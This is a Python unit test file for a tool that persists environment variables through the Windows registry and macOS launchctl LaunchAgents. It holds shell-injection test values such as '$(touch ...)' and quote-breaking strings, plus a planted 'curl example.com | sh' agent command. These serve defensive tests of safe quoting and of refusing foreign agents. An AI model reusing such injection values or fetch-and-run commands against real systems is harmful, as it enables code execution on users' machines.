"""Persistent environment stores: the Windows user registry key and launchctl with its LaunchAgent."""

from __future__ import annotations

import base64
import os
import plistlib
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from tests.unit.recorded import FakeLaunchctl

from uv_drive_guard.edges.registry import REG_BINARY, REG_DWORD, REG_EXPAND_SZ, REG_MULTI_SZ, REG_SZ
from uv_drive_guard.edges.settings._macos import launch_agent_definitions
from uv_drive_guard.fixing import envstore
from uv_drive_guard.fixing.envstore import EnvStore, EnvStoreError, Saved
from uv_drive_guard.fixing.envstore import _macos as _env_macos
from uv_drive_guard.fixing.envstore import _windows as _env_windows
from uv_drive_guard.fixing.envstore._macos import LABEL, LaunchctlEnvStore
from uv_drive_guard.fixing.envstore._windows import RegistryEnvStore

# --- Windows ---------------------------------------------------------------------------------------


class FakeRegistry:
    """HKCU\\Environment in memory: names ignore case and keep their first spelling, as the registry's
    do (Microsoft's "Structure of the Registry"); every call is recorded."""

    def __init__(self, values: dict[str, tuple[object, int]] | None = None) -> None:
        self.values = dict(values or {})
        self.calls: list[tuple[object, ...]] = []

    def _stored(self, name: str) -> str | None:
        return next((stored for stored in self.values if stored.upper() == name.upper()), None)

    def read(self, name: str) -> tuple[object, int] | None:
        stored = self._stored(name)
        return None if stored is None else self.values[stored]

    def write(self, name: str, value: object, kind: int) -> None:
        self.calls.append(("write", name, value, kind))
        self.values[self._stored(name) or name] = (value, kind)  # the registry keeps the first spelling

    def delete(self, name: str) -> None:
        self.calls.append(("delete", name))
        stored = self._stored(name)
        if stored is not None:
            del self.values[stored]


class Machine:
    """HKLM Session Manager\\Environment, read only: it has no write method to call."""

    def __init__(self, values: dict[str, tuple[object, int]] | None = None) -> None:
        self.values = dict(values or {})
        self.reads: list[str] = []

    def __call__(self, name: str) -> tuple[object, int] | None:
        self.reads.append(name)
        return self.values.get(name.upper())


class Counter:
    def __init__(self) -> None:
        self.count = 0

    def __call__(self) -> None:
        self.count += 1


def windows_store(
    user: dict[str, tuple[object, int]] | None = None, machine: dict[str, tuple[object, int]] | None = None
) -> tuple[RegistryEnvStore, FakeRegistry, Machine, Counter]:
    registry, hklm, broadcast = FakeRegistry(user), Machine(machine), Counter()
    return RegistryEnvStore(registry=registry, broadcast=broadcast, machine=hklm), registry, hklm, broadcast


def test_registry_store_is_an_envstore() -> None:
    store: EnvStore = windows_store()[0]
    assert store.name == "HKCU\\Environment"


def test_set_keeps_expand_sz_for_a_plain_value() -> None:
    store, registry, _, _ = windows_store({"UV_CACHE_DIR": ("%LOCALAPPDATA%\\uv", REG_EXPAND_SZ)})
    store.set("UV_CACHE_DIR", "C:\\uv-cache")
    assert registry.values == {"UV_CACHE_DIR": ("C:\\uv-cache", REG_EXPAND_SZ)}


def test_set_keeps_reg_sz_even_with_a_reference() -> None:
    store, registry, _, _ = windows_store({"UV_CACHE_DIR": ("C:\\old", REG_SZ)})
    store.set("UV_CACHE_DIR", "%TEMP%\\uv")
    assert registry.values["UV_CACHE_DIR"] == ("%TEMP%\\uv", REG_SZ)


def test_set_keeps_the_stored_spelling_of_the_name() -> None:
    store, registry, _, _ = windows_store({"uv_link_mode": ("hardlink", REG_EXPAND_SZ)})
    store.set("UV_LINK_MODE", "copy")
    assert registry.values == {"uv_link_mode": ("copy", REG_EXPAND_SZ)}


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("copy", REG_SZ),
        ("%LOCALAPPDATA%\\uv\\cache", REG_EXPAND_SZ),
        ("%USERPROFILE%", REG_EXPAND_SZ),
        ("100%", REG_SZ),
        ("", REG_SZ),
    ],
)
def test_new_value_type(value: str, kind: int) -> None:
    store, registry, _, _ = windows_store()
    store.set("UV_CACHE_DIR", value)
    assert registry.calls == [("write", "UV_CACHE_DIR", value, kind)]


def test_non_string_value_is_replaced_by_a_string_type() -> None:
    store, registry, _, _ = windows_store({"UV_NO_CACHE": (1, REG_DWORD)})
    store.set("UV_NO_CACHE", "1")
    assert registry.values["UV_NO_CACHE"] == ("1", REG_SZ)


def test_broadcast_once_after_each_change_and_never_for_reads() -> None:
    store, _, _, broadcast = windows_store({"UV_LINK_MODE": ("hardlink", REG_SZ)})
    saved = store.save(["UV_LINK_MODE", "UV_CACHE_DIR"])
    store.describe_set("UV_LINK_MODE", "copy")
    store.describe_unset("UV_LINK_MODE")
    assert broadcast.count == 0
    store.set("UV_LINK_MODE", "copy")
    assert broadcast.count == 1
    store.unset("UV_LINK_MODE")
    assert broadcast.count == 2
    store.restore(saved)
    assert broadcast.count == 3


def test_broadcast_comes_after_the_write() -> None:
    events: list[str] = []
    registry = FakeRegistry()
    store = RegistryEnvStore(
        registry=registry,
        broadcast=lambda: events.append(f"broadcast after {len(registry.calls)} writes"),
        machine=Machine(),
    )
    store.set("UV_LINK_MODE", "copy")
    assert events == ["broadcast after 1 writes"]


def test_machine_value_is_read_but_never_written() -> None:
    machine_values: dict[str, tuple[object, int]] = {"UV_LINK_MODE": ("symlink", REG_SZ)}
    store, registry, machine, _ = windows_store(machine=machine_values)
    store.set("UV_LINK_MODE", "copy")
    store.unset("UV_LINK_MODE")
    store.describe_set("UV_LINK_MODE", "copy")
    assert machine.values == {"UV_LINK_MODE": ("symlink", REG_SZ)}
    assert registry.calls == [("write", "UV_LINK_MODE", "copy", REG_SZ), ("delete", "UV_LINK_MODE")]


def test_the_real_registry_code_opens_hkcu_only() -> None:
    source = Path(_env_windows.__file__).read_text(encoding="utf-8")
    assert "HKEY_LOCAL_MACHINE" not in source
    assert source.count("HKEY_CURRENT_USER") == 2  # the write and the delete


def test_describe_set_new_value() -> None:
    store = windows_store()[0]
    assert store.describe_set("UV_LINK_MODE", "copy") == 'HKCU\\Environment: set UV_LINK_MODE = "copy" (REG_SZ)'


def test_describe_set_replacing_and_kept_type() -> None:
    store = windows_store({"UV_CACHE_DIR": ("%LOCALAPPDATA%\\uv", REG_EXPAND_SZ)})[0]
    assert store.describe_set("UV_CACHE_DIR", "C:\\uv") == (
        'HKCU\\Environment: set UV_CACHE_DIR = "C:\\uv" (REG_EXPAND_SZ), replacing "%LOCALAPPDATA%\\uv" (REG_EXPAND_SZ)'
    )


def test_describe_set_over_a_machine_value() -> None:
    store = windows_store(machine={"UV_LINK_MODE": ("symlink", REG_SZ)})[0]
    assert store.describe_set("UV_LINK_MODE", "copy") == (
        'HKCU\\Environment: set UV_LINK_MODE = "copy" (REG_SZ); overrides the machine-wide value "symlink" in '
        "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Session Manager\\Environment; the machine value is left as is"
    )


def test_describe_unset() -> None:
    store = windows_store({"UV_LINK_MODE": ("copy", REG_SZ)}, {"UV_LINK_MODE": ("symlink", REG_SZ)})[0]
    assert store.describe_unset("UV_LINK_MODE") == (
        'HKCU\\Environment: remove UV_LINK_MODE (was "copy", REG_SZ); the machine-wide value "symlink" in '
        "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Session Manager\\Environment then applies; "
        "the machine value is left as is"
    )
    assert store.describe_unset("UV_CACHE_DIR") == "HKCU\\Environment: UV_CACHE_DIR is not set; nothing to remove"


def test_save_restore_round_trip_is_exact() -> None:
    original: dict[str, tuple[object, int]] = {
        "UV_CACHE_DIR": ("%LOCALAPPDATA%\\uv", REG_EXPAND_SZ),
        "UV_LINK_MODE": ("hardlink", REG_SZ),
        "UV_NO_CACHE": (1, REG_DWORD),
        "UV_PYTHON_INSTALL_DIR": (b"\x00\xffraw", REG_BINARY),
        "UV_TOOL_DIR": (["a", "b"], REG_MULTI_SZ),
        "OTHER": ("untouched", REG_SZ),
    }
    store, registry, _, _ = windows_store(original)
    names = ["UV_CACHE_DIR", "UV_LINK_MODE", "UV_NO_CACHE", "UV_PYTHON_INSTALL_DIR", "UV_TOOL_DIR", "UV_TOOL_BIN_DIR"]
    saved = store.save(names)
    assert saved[0] == Saved("UV_CACHE_DIR", "%LOCALAPPDATA%\\uv", "REG_EXPAND_SZ")
    assert saved[-1] == Saved("UV_TOOL_BIN_DIR", None)
    for name in names:
        store.set(name, "D:\\changed")
    store.unset("UV_LINK_MODE")
    store.restore(saved)
    assert registry.values == original


def test_restore_removes_what_did_not_exist() -> None:
    store, registry, _, _ = windows_store()
    saved = store.save(["UV_LINK_MODE"])
    store.set("UV_LINK_MODE", "copy")
    store.restore(saved)
    assert registry.values == {}


@pytest.mark.parametrize("value", ["a\0b", "a\nb", "a\rb", "\x1b[31m"])
def test_registry_refuses_control_characters(value: str) -> None:
    store, registry, _, broadcast = windows_store()
    with pytest.raises(ValueError):
        store.set("UV_CACHE_DIR", value)
    with pytest.raises(ValueError):
        store.describe_set("UV_CACHE_DIR", value)
    assert registry.calls == [] and broadcast.count == 0


@pytest.mark.parametrize("name", ["", "A=B", "A\0"])
def test_registry_refuses_bad_names(name: str) -> None:
    store, registry, _, _ = windows_store()
    with pytest.raises(ValueError):
        store.set(name, "x")
    assert registry.calls == []


# --- macOS -----------------------------------------------------------------------------------------


def mac_store(tmp_path: Path, env: dict[str, str] | None = None) -> tuple[LaunchctlEnvStore, FakeLaunchctl, Path]:
    launchctl = FakeLaunchctl(env)
    agent = tmp_path / "Library" / "LaunchAgents" / f"{LABEL}.plist"
    return LaunchctlEnvStore(run=launchctl, agent_path=agent), launchctl, agent


def script_of(agent: Path) -> str:
    loaded = plistlib.loads(agent.read_bytes())
    assert loaded["Label"] == "io.github.uv-drive-guard.environment"
    assert loaded["RunAtLoad"] is True
    assert loaded["ProgramArguments"][:2] == ["/bin/sh", "-c"]
    assert len(loaded["ProgramArguments"]) == 3
    script: str = loaded["ProgramArguments"][2]
    return script


def test_launchctl_store_is_an_envstore(tmp_path: Path) -> None:
    store: EnvStore = mac_store(tmp_path)[0]
    assert store.name == "launchctl"


def test_default_agent_path() -> None:
    path = LaunchctlEnvStore(run=FakeLaunchctl()).agent_path
    assert path == Path.home() / "Library" / "LaunchAgents" / "io.github.uv-drive-guard.environment.plist"


def test_set_runs_setenv_and_writes_the_agent(tmp_path: Path) -> None:
    store, launchctl, agent = mac_store(tmp_path)
    store.set("UV_LINK_MODE", "copy")
    assert ["/bin/launchctl", "setenv", "UV_LINK_MODE", "copy"] in launchctl.calls
    assert launchctl.env == {"UV_LINK_MODE": "copy"}
    assert script_of(agent) == "/bin/launchctl setenv UV_LINK_MODE 'copy'"
    assert stat.S_IMODE(agent.stat().st_mode) == 0o644
    assert sorted(os.listdir(agent.parent)) == [agent.name]  # no temp file left


def test_agent_keeps_order_updates_in_place_and_goes_when_empty(tmp_path: Path) -> None:
    store, launchctl, agent = mac_store(tmp_path)
    store.set("UV_LINK_MODE", "copy")
    store.set("UV_CACHE_DIR", "/Users/me/uv cache")
    store.set("UV_LINK_MODE", "clone")
    assert script_of(agent) == (
        "/bin/launchctl setenv UV_LINK_MODE 'clone'\n/bin/launchctl setenv UV_CACHE_DIR '/Users/me/uv cache'"
    )
    store.unset("UV_LINK_MODE")
    assert script_of(agent) == "/bin/launchctl setenv UV_CACHE_DIR '/Users/me/uv cache'"
    assert launchctl.calls[-1] == ["/bin/launchctl", "unsetenv", "UV_LINK_MODE"]
    store.unset("UV_CACHE_DIR")
    assert not agent.exists()
    assert launchctl.env == {}


def test_settings_reader_sees_what_the_agent_sets(tmp_path: Path) -> None:
    store = mac_store(tmp_path)[0]
    store.set("UV_LINK_MODE", "copy")
    store.set("UV_CACHE_DIR", "/Volumes/My Drive/it's uv")
    found = {d.name: d.value for d in launch_agent_definitions(tmp_path, names=["UV_LINK_MODE", "UV_CACHE_DIR"])}
    assert found == {"UV_LINK_MODE": "copy", "UV_CACHE_DIR": "/Volumes/My Drive/it's uv"}


def hostile_values(marker: Path) -> dict[str, str]:
    return {
        "UV_A": "it's",
        "UV_B": f"$(touch {marker})",
        "UV_C": f"`touch {marker}`",
        "UV_D": "  two  spaces  ",
        "UV_E": f"'; touch {marker}; echo '",
        "UV_F": "\\back\\slash\\",
        "UV_G": '"double" $HOME ~ * ?',
        "UV_H": f"'\\'' && touch {marker} #",
        "UV_I": "",
        "UV_J": "''''",
    }


@pytest.mark.skipif(not os.path.exists("/bin/sh"), reason="needs a POSIX shell")
def test_agent_script_is_safe_for_hostile_values(tmp_path: Path) -> None:
    marker = tmp_path / "marker"
    values = hostile_values(marker)
    store, _, agent = mac_store(tmp_path)
    for name, value in values.items():
        store.set(name, value)
    script = script_of(agent)
    subprocess.run(["/bin/sh", "-n", "-c", script], check=True)

    log = tmp_path / "argv.log"
    recorder = tmp_path / "launchctl"  # arguments end with US (0x1f), calls with RS (0x1e): values cannot hold either
    recorder.write_text(f"#!/bin/sh\n{{ printf '%s\\037' \"$@\"; printf '\\036'; }} >> '{log}'\n")
    recorder.chmod(0o755)
    assert script.count("/bin/launchctl") == len(values)
    subprocess.run(["/bin/sh", "-c", script.replace("/bin/launchctl", str(recorder))], check=True, cwd=tmp_path)

    calls = [record.split(b"\x1f")[:-1] for record in log.read_bytes().split(b"\x1e")[:-1]]
    assert calls == [[b"setenv", name.encode(), value.encode()] for name, value in values.items()]
    assert not marker.exists()


def test_agent_parses_back_to_the_same_values(tmp_path: Path) -> None:
    values = hostile_values(tmp_path / "marker")
    assert _env_macos.parse_agent(_env_macos.agent_plist(values)) == values


def test_save_restore_deletes_an_agent_that_did_not_exist(tmp_path: Path) -> None:
    store, launchctl, agent = mac_store(tmp_path, {"UV_CACHE_DIR": "/old"})
    saved = store.save(["UV_LINK_MODE", "UV_CACHE_DIR"])
    assert [item.value for item in saved] == [None, "/old"]
    assert dict(saved[0].extra)["agent_plist"] == "absent"
    store.set("UV_LINK_MODE", "copy")
    store.set("UV_CACHE_DIR", "/new")
    assert agent.exists()
    store.restore(saved)
    assert not agent.exists()
    assert launchctl.env == {"UV_CACHE_DIR": "/old"}


def test_save_restore_puts_the_agent_bytes_back_exactly(tmp_path: Path) -> None:
    store, launchctl, agent = mac_store(tmp_path)
    store.set("UV_CACHE_DIR", "/kept")
    before = agent.read_bytes() + b"\n<!-- trailing bytes a rewrite would lose -->\n"
    agent.write_bytes(before)
    saved = store.save(["UV_LINK_MODE", "UV_CACHE_DIR"])
    assert dict(saved[0].extra)["agent_plist"] == "base64:" + base64.b64encode(before).decode()
    store.set("UV_LINK_MODE", "copy")
    store.unset("UV_CACHE_DIR")
    store.restore(saved)
    assert agent.read_bytes() == before
    assert launchctl.env == {"UV_CACHE_DIR": "/kept"}


def test_restore_refuses_a_save_for_another_agent(tmp_path: Path) -> None:
    store, launchctl, _ = mac_store(tmp_path)
    saved = store.save(["UV_LINK_MODE"])
    other = LaunchctlEnvStore(run=launchctl, agent_path=tmp_path / "other.plist")
    with pytest.raises(EnvStoreError):
        other.restore(saved)
    assert all(call[1] == "getenv" for call in launchctl.calls)


@pytest.mark.parametrize("value", ["a\nb", "a\0b", "a\tb", "\x1b[0m", "a\x7fb"])
def test_launchctl_refuses_control_characters(tmp_path: Path, value: str) -> None:
    store, launchctl, agent = mac_store(tmp_path)
    with pytest.raises(ValueError):
        store.set("UV_CACHE_DIR", value)
    assert launchctl.calls == [] and not agent.exists()


@pytest.mark.parametrize("name", ["", "1UV", "UV-X", "UV X", "$(x)"])
def test_launchctl_refuses_names_a_shell_would_misread(tmp_path: Path, name: str) -> None:
    store, launchctl, _ = mac_store(tmp_path)
    with pytest.raises(ValueError):
        store.set(name, "x")
    assert launchctl.calls == []


def test_an_agent_we_did_not_write_is_left_alone(tmp_path: Path) -> None:
    store, launchctl, agent = mac_store(tmp_path)
    agent.parent.mkdir(parents=True)
    foreign = plistlib.dumps({"Label": LABEL, "ProgramArguments": ["/bin/sh", "-c", "curl example.com | sh"]})
    agent.write_bytes(foreign)
    with pytest.raises(EnvStoreError):
        store.set("UV_LINK_MODE", "copy")
    assert agent.read_bytes() == foreign
    assert launchctl.calls == []


def test_failing_launchctl_is_an_error(tmp_path: Path) -> None:
    store, launchctl, _ = mac_store(tmp_path)
    launchctl.fail = "setenv"
    with pytest.raises(EnvStoreError):
        store.set("UV_LINK_MODE", "copy")


def test_launchctl_describe_lines(tmp_path: Path) -> None:
    store, launchctl, agent = mac_store(tmp_path, {"UV_LINK_MODE": "hardlink"})
    assert store.describe_set("UV_LINK_MODE", "copy") == (
        f'launchctl: set UV_LINK_MODE = "copy" (now, and at login by {agent}), replacing "hardlink"'
    )
    assert store.describe_unset("UV_LINK_MODE") == (
        f'launchctl: remove UV_LINK_MODE from launchd and {agent} (was "hardlink")'
    )
    assert (
        store.describe_unset("UV_CACHE_DIR") == f"launchctl: remove UV_CACHE_DIR from launchd and {agent} (not set now)"
    )
    assert all(call[1] == "getenv" for call in launchctl.calls)
    assert not agent.exists()


# --- choosing the store ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("platform", "expected"),
    [("win32", RegistryEnvStore), ("darwin", LaunchctlEnvStore), ("linux", type(None))],
)
def test_native_store(monkeypatch: pytest.MonkeyPatch, platform: str, expected: type) -> None:
    monkeypatch.setattr(sys, "platform", platform)
    assert type(envstore.native_store()) is expected
